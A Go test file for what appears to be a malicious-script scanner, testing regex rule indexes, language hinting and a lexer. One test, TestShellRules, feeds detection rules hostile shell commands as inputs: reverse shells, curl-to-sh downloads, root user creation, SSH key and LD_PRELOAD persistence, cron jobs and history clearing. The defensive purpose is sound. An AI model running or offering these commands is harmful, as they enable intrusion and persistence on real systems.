package script

import (
	"regexp"
	"slices"
	"strings"
	"testing"
)

// paths are what the tables are asked about: names of the languages, joined.
func paths() []string {
	var parts []string
	for _, lang := range languages {
		for _, s := range lang.sinks {
			parts = append(parts, letters.FindAllString(s.re.String(), -1)...)
		}
		for _, s := range lang.sources {
			parts = append(parts, letters.FindAllString(s.re.String(), -1)...)
		}
	}
	slices.Sort(parts)
	parts = slices.Compact(parts)
	out := []string{"", "a", "x.y.z", "$x", "é"}
	for i, p := range parts {
		out = append(out, p, "a."+p, p+".b", "x"+p, p+"x", "$"+p, "os."+p, strings.Repeat("y.", 30)+p, p+"."+parts[(i*7)%len(parts)], parts[(i*13)%len(parts)]+"."+p)
	}
	return out
}

var letters = regexp.MustCompile(`[a-z_]{2,}`)

// TestIndex holds that the indexes answer as the patterns in their order do.
func TestIndex(t *testing.T) {
	for name, lang := range languages {
		x := tablesOf[name]()
		for _, p := range paths() {
			if got, want := x.sinks.first(p), slices.IndexFunc(lang.sinks, func(s sinkRule) bool { return s.re.MatchString(p) }); got != want {
				t.Errorf("%s: sink of %q: got %d, want %d", name, p, got, want)
			}
			if got, want := x.sources.first(p), slices.IndexFunc(lang.sources, func(s sourceRule) bool { return s.re.MatchString(p) }); got != want {
				t.Errorf("%s: source of %q: got %d, want %d", name, p, got, want)
			}
		}
	}
}

// TestIndexOfMany has more patterns speak for a path than are tried one by one.
func TestIndexOfMany(t *testing.T) {
	var list []*regexp.Regexp
	for range 40 {
		list = append(list, regexp.MustCompile(`^word.$`))
	}
	list = append(list, regexp.MustCompile(`^words$`), regexp.MustCompile(`word`))
	if got := newIndex(list[30:]).first("a word"); got != 11 {
		t.Errorf("got %d, want 11", got)
	}
	if got := newIndex(list).first("a word"); got != 41 {
		t.Errorf("got %d, want 41", got)
	}
}

// TestShellRules holds that the words of the rules of shell stand in whatever they match.
func TestShellRules(t *testing.T) {
	may := make([]bool, len(shellRules))
	for _, text := range []string{
		"bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "nc -e /bin/sh 192.0.2.1 80", "mkfifo /tmp/f; cat /tmp/f | sh -i | nc 192.0.2.1 1 > /tmp/f", "curl http://192.0.2.1/x | sh",
		"echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | sh", "useradd -o -u 0 x", "chmod 4755 /tmp/sh", "echo k >> ~/.ssh/authorized_keys", "eval $(printf 'x')", "insmod /tmp/x.ko", "history -c",
		"export LD_PRELOAD=/tmp/x.so", "echo x >> /etc/ld.so.preload", "(crontab -l; echo '* * * * * x') | crontab -", "python -c 'import socket'", "chattr +i /etc/x", "trap 'curl http://192.0.2.1' EXIT", "wget -O /tmp/x http://192.0.2.1",
	} {
		shellTables().rules.candidates(text, may)
		for i, r := range shellRules {
			if r.re.MatchString(text) && !may[i] {
				t.Errorf("%s matches %q, the index does not offer it", r.name, text)
			}
		}
	}
}

func TestHinted(t *testing.T) {
	for _, c := range []struct {
		lang, src string
		want      bool
	}{
		{"python", "the file system", true}, {"python", "os.system(x)", true}, {"python", "ecosystem systems file_system system_x", false}, {"python", "EXEC", true}, {"python", "empty", false}, {"python", "import pty", true},
		{"perl", "parameters reopen", true}, {"perl", "parameters", false}, {"perl", "param('x')", true}, {"perl", "`id`", true},
		{"node", "require('./a'); eval(x)", false}, {"node", "require('child_process').exec(x)", true}, {"node", "module.exports = function(req) { eval(req.query.x) }", true},
		{"asp", "objShell.Run x", true},
	} {
		if got := hinted(languages[c.lang], []byte(c.src)); got != c.want {
			t.Errorf("%s %q: got %v, want %v", c.lang, c.src, got, c.want)
		}
	}
}

// TestWithin holds that a word is found wherever the parts of a source meet.
func TestWithin(t *testing.T) {
	texts := []string{"needle", "x"}
	set := foldedWords(texts)
	for at := 32<<10 - 8; at < 32<<10+3; at++ {
		b := []byte(strings.Repeat("-", 70<<10))
		if within(set, texts, b) {
			t.Fatal("found where nothing is")
		}
		copy(b[at:], "NEEDLE")
		if !within(set, texts, b) {
			t.Errorf("not found at %d", at)
		}
	}
}

// TestOperators holds that each operator has its own number and text.
func TestOperators(t *testing.T) {
	n := newNames(languages["node"])
	toks, _ := n.lex(nil, "a -> b |= c == d ? { { } }")
	var got []op
	for _, x := range toks {
		if x.kind == tOp {
			got = append(got, x.op)
		}
	}
	if want := []op{opArrow, opOrTo, opEqual, '?', '{', '{', '}', '}'}; !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	if got, want := toks[8].end, int32(12); got != want {
		t.Errorf("braces end at %d, want %d", got, want)
	}
}
